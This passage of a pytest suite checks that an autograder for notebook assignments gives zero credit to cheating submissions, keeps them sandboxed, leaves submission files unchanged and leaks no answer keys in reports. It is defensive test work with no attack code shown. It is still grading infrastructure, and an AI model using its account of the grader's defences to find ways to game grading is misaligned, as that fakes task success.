    """If this fails, the attacks' answer plumbing is broken and their zero scores prove nothing."""
    rep = campaign.report("control-known-keys")
    assert rep["points"] == AUTO, [(i["exercise"], i["message"]) for i in rep["items"]]


@pytest.mark.parametrize("atk", ATTACKS, ids=lambda a: a.id)
def test_attack_gets_no_credit(campaign: Campaign, atk: Attack) -> None:
    rep, row = campaign.report(atk.id), campaign.row(atk.id)
    earned = {i["exercise"]: i["points"] for i in rep["items"] if i["points"] or i["passed"]}
    assert not earned, f"{atk.id} ({atk.doc}) earned points for {earned}"
    assert rep["points"] == 0 and rep["max_points"] == AUTO and len(rep["items"]) == len(IDS)
    assert float(row["points"]) == 0 and all(float(row[i["exercise"]]) == 0 for i in rep["items"])
    assert rep["graded"] is True and row["graded"] == "1", rep["problems"]
    assert rep.get("sandboxed") is True


@pytest.mark.parametrize("atk", ATTACKS, ids=lambda a: a.id)
def test_attack_changes_nothing_outside_the_sandbox(campaign: Campaign, atk: Attack) -> None:
    """Its own submission file and whatever it aims at (everything else: the tests below)."""
    sub = campaign.folder / atk.id / f"{STEM}.ipynb"
    assert sub.is_file() and sha(sub) == campaign.submission_sha[atk.id], f"{atk.id}: submission modified"
    found = {e: campaign.effects[e] for e in atk.effects if campaign.effects[e]}
    assert not found, f"{atk.id} ({atk.doc}):\n" + json.dumps(found, indent=1)


@pytest.mark.parametrize("effect", EFFECTS)
def test_nothing_outside_the_sandbox_changed(campaign: Campaign, effect: str) -> None:
    assert not campaign.effects[effect], "\n".join(campaign.effects[effect][:20])


def test_every_submission_file_is_unchanged(campaign: Campaign) -> None:
    changed = [name for name, h in campaign.submission_sha.items()
               if not (campaign.folder / name / f"{STEM}.ipynb").is_file()
               or sha(campaign.folder / name / f"{STEM}.ipynb") != h]
    assert not changed, f"the grader or a classmate modified: {changed}"


@pytest.mark.parametrize("name", ["nested-json", "check-without-source", "source-not-strings", "invalid-utf8",
                                  "whitespace-only", "cells-not-a-list", "zero-bytes", "directory"])
def test_malformed_submission_gets_its_own_row_and_no_points(campaign: Campaign, name: str) -> None:
    rep, row = campaign.report(f"malformed-{name}"), campaign.row(f"malformed-{name}")
    assert rep["points"] == 0 and float(row["points"]) == 0
    assert row["graded"] == str(int(rep["graded"]))
    if name not in ("check-without-source", "source-not-strings"):  # these two may be repaired and graded
        assert rep["graded"] is False and rep["problems"], rep


def test_reports_reveal_no_expected_values(campaign: Campaign) -> None:
    secrets = key_strings(solution_keys()) + ["SECRET-"]
    leaks = {name: [s for s in secrets if s in json.dumps(rep)] for name, rep in campaign.reports.items()
             if name != "control-known-keys"}
    assert not {k: v for k, v in leaks.items() if v}, leaks
